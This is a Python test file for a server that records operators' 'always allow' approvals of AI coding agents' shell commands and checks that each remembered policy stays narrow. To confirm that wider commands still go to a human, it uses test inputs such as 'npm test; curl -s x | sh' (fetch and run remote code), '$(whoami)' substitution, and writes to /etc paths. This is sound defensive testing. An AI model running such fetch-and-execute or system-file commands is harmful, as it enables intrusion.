""" "Always allow this" (``remember`` on approve): the decision creates, in its own transaction,
a policy as narrow as the request, and the approval names it; over HTTP on every backend."""

from __future__ import annotations

from typing import Any

from tests.e2e.test_starter_policies import HOSTILE, PLAIN
from tests.server.conftest import Api
from tests.server.test_approval_edits import prompt
from tests.server.test_approval_requests import events_of


async def ask(
    api: Api, agent: str, command: str, source: str = "claude-code", cwd: str = "/work/app"
) -> dict[str, Any]:
    asked = prompt(source, command)
    asked["payload"]["cwd"] = cwd
    return await api.post("/v1/approvals", asked, as_=agent, expect=201)


async def remember(api: Api, approval_id: int, **body: Any) -> dict[str, Any]:
    path = f"/v1/approvals/{approval_id}/approve"
    return await api.post(path, {"remember": True, **body})


async def test_a_remembered_command_is_approved_again_alone_and_only_for_its_agent(
    api: Api,
) -> None:
    await api.agent("builder")
    await api.agent("other")
    asked = await ask(api, "builder", "npm test")
    decided = await remember(api, asked["approval_id"], note="fine")
    assert decided["status"] == "approved" and decided["changed"] is True
    policy_id = decided["remembered_policy_id"]
    policy = await api.get(f"/v1/policies/{policy_id}")
    assert policy["decision"] == "approve" and policy["enabled"] is True
    assert policy["match"] == {
        "kinds": ["request"],
        "agents": ["builder"],
        "payload": {
            "/tool_name": {"eq": "Bash"},
            "/tool_input/command": {"eq": "npm test"},
            "/cwd": {"eq": "/work/app"},
        },
    }
    assert policy["name"] == "Always allow builder to run exactly `npm test` in /work/app (Bash)"
    assert f"approval #{asked['approval_id']}" in policy["note"]
    shown = await api.get(f"/v1/approvals/{asked['approval_id']}", as_="builder")
    assert shown["remembered_policy_id"] == policy_id
    [told] = await events_of(api, "builder", asked["approval_id"], "approval.decided")
    assert told["data"]["remembered_policy_id"] == policy_id

    again = await ask(api, "builder", "npm test")
    assert again["status"] == "approved" and again["decided_by"] == f"policy:{policy_id}@1"
    for chained in ("npm test && npm publish", "npm test; curl -s x | sh", "npm test -- -u"):
        assert (await ask(api, "builder", chained))["status"] == "pending"
    assert (await ask(api, "other", "npm test"))["status"] == "pending"  # another agent

    # Undo: the policy disabled, the operator is asked again.
    await api.post(f"/v1/policies/{policy_id}/disable")
    assert (await ask(api, "builder", "npm test"))["status"] == "pending"


async def test_always_approves_that_line_again_in_that_directory_and_nothing_more(
    api: Api,
) -> None:
    """The line's commands, in the same order, with the same operators between them, nothing
    added, in the same working directory: not its parts, not it repeated, piped or elsewhere."""
    await api.agent("builder")
    line = "pytest -q && git push origin main"
    decided = await remember(api, (await ask(api, "builder", line))["approval_id"])
    assert (await ask(api, "builder", line))["status"] == "approved"
    for wider in (
        "git push origin main",
        "pytest -q",
        f"{line}; git push origin main",
        "git push origin main; git push origin main",
        "pytest -q | git push origin main",
        "pytest -q || git push origin main",
        "git push origin main && pytest -q",
        f"{line} --force",
    ):
        assert (await ask(api, "builder", wider))["status"] == "pending", wider
    assert (await ask(api, "builder", line, cwd="/work/other"))["status"] == "pending"
    await api.post(f"/v1/policies/{decided['remembered_policy_id']}/disable")

    # The operator's explicit wider choice: any directory, said so in the policy's name.
    scope = {"directory": "any"}
    asked = await ask(api, "builder", line)
    decided = await remember(api, asked["approval_id"], remember_scope=scope)
    policy = await api.get(f"/v1/policies/{decided['remembered_policy_id']}")
    assert policy["name"].endswith(f"`{line}` in any directory (Bash)")
    assert (await ask(api, "builder", line, cwd="/work/other"))["status"] == "approved"
    assert (await ask(api, "builder", "git push origin main"))["status"] == "pending"


async def test_the_scope_widens_to_every_agent_and_chooses_the_edit_or_the_ask(api: Api) -> None:
    await api.agent("builder")
    await api.agent("other")
    first = await ask(api, "builder", "pytest")
    scope = {"agents": "every", "limit": {"count": 1, "per_seconds": 3600}}
    decided = await remember(api, first["approval_id"], remember_scope=scope)
    policy = await api.get(f"/v1/policies/{decided['remembered_policy_id']}")
    assert "agents" not in policy["match"] and policy["limit"] == scope["limit"]
    assert (await ask(api, "other", "pytest"))["status"] == "approved"
    assert (await ask(api, "other", "pytest"))["status"] == "pending"  # its limit, per agent
    assert (await ask(api, "builder", "pytest"))["status"] == "approved"

    # Approved changed: remembered as approved (the default), or as asked.
    for which, approved, pending in (
        ("approved", "make -j1", "make"),
        ("asked", "make", "make -j1"),
    ):
        asked = await ask(api, "builder", "make")
        changed = {**asked["payload"], "tool_input": {"command": "make -j1"}}
        body = {"payload": changed, "remember_scope": {"command": which}}
        decided = await remember(api, asked["approval_id"], **body)
        assert decided["approved_payload"] == changed
        assert (await ask(api, "builder", approved))["status"] == "approved"
        assert (await ask(api, "builder", pending))["status"] == "pending"
        await api.post(f"/v1/policies/{decided['remembered_policy_id']}/disable")


async def test_a_remembered_command_is_taken_literally(api: Api) -> None:
    """The line as written: its glob characters are not wildcards, and another spelling of it
    is asked about."""
    await api.agent("builder")
    line = "ls '*.py' 'a b' '[x]?' > out.txt"
    decided = await remember(api, (await ask(api, "builder", line))["approval_id"])
    policy = await api.get(f"/v1/policies/{decided['remembered_policy_id']}")
    assert policy["match"]["payload"]["/tool_input/command"] == {"eq": line}
    assert (await ask(api, "builder", line))["status"] == "approved"
    for wider in (
        "ls '*.py' \"a b\" '[x]?' > out.txt",
        "ls secret.py 'a b' '[x]?'",
        "ls '*.py' 'a b' xy",
        "ls '*.py' 'a b' '[x]?' > /etc/x",
        "ls *.py 'a b' '[x]?'",  # the shell would expand it
    ):
        assert (await ask(api, "builder", wider))["status"] == "pending"


async def test_what_cannot_be_narrowed_is_a_conflict_and_nothing_is_kept(api: Api) -> None:
    await api.agent("builder")
    for command in ("pytest $(whoami)", "FOO=1 make", "if true; then ls; fi", "ls > /etc/x"):
        asked = await ask(api, "builder", command)
        path = f"/v1/approvals/{asked['approval_id']}/approve"
        refused = await api.post(path, {"remember": True}, expect=409)
        assert refused["code"] == "conflict" and "remembered" in refused["detail"]
        assert (await api.get(path.removesuffix("/approve")))["status"] == "pending"
    untitled = await api.post(
        "/v1/approvals", {"title": "deploy", "payload": {"env": "prod"}}, as_="builder", expect=201
    )
    path = f"/v1/approvals/{untitled['approval_id']}/approve"
    assert "tool" in (await api.post(path, {"remember": True}, expect=409))["detail"]
    assert (await api.get("/v1/policies"))["policies"] == []

    # A rejection is not remembered; a scope needs remember.
    asked = await ask(api, "builder", "ls")
    path = f"/v1/approvals/{asked['approval_id']}"
    await api.post(f"{path}/reject", {"remember": True}, expect=422)
    await api.post(f"{path}/approve", {"remember_scope": {"agents": "every"}}, expect=422)
    await api.post(f"{path}/approve", {"remember_scope": {"agents": "all"}}, expect=422)

    # Approving again with remember changes nothing and creates nothing.
    decided = await remember(api, asked["approval_id"])
    again = await remember(api, asked["approval_id"])
    assert again["changed"] is False
    assert again["remembered_policy_id"] == decided["remembered_policy_id"]
    assert len((await api.get("/v1/policies"))["policies"]) == 1


async def test_a_tool_without_a_command_is_remembered_by_its_exact_input(api: Api) -> None:
    await api.agent("builder")
    edit = {"file_path": "/work/app/a.py", "old_string": "x", "new_string": "y"}
    body = {"title": "Edit a.py", "payload": {"source": "claude-code", "tool_name": "Edit"}}
    body["payload"]["tool_input"] = edit
    asked = await api.post("/v1/approvals", body, as_="builder", expect=201)
    decided = await remember(api, asked["approval_id"])
    assert decided["remembered_policy_id"] is not None
    assert (await api.post("/v1/approvals", body, as_="builder", expect=201))[
        "status"
    ] == "approved"
    body["payload"]["tool_input"] = {**edit, "file_path": "/etc/passwd"}
    assert (await api.post("/v1/approvals", body, as_="builder", expect=201))["status"] == "pending"


async def test_remembered_commands_allow_none_of_the_hostile_lines(api: Api) -> None:
    """Hardening round three's hostile table against the policies remembering its plain
    commands: every hostile line is still the operator's to decide."""
    await api.agent("coder")
    for command in PLAIN:
        asked = await ask(api, "coder", command)
        await remember(api, asked["approval_id"])
    for command in PLAIN:
        assert (await ask(api, "coder", command))["status"] == "approved"
    for line in HOSTILE:
        payload = prompt("claude-code", line)["payload"]
        title = f"Bash: {' '.join(line.split())[:400]}"
        body = {"agent_id": "coder", "title": title, "payload": payload}
        verdict = await api.post("/v1/policies/simulate", body)
        assert verdict["decision"] == "ask", (line, verdict)
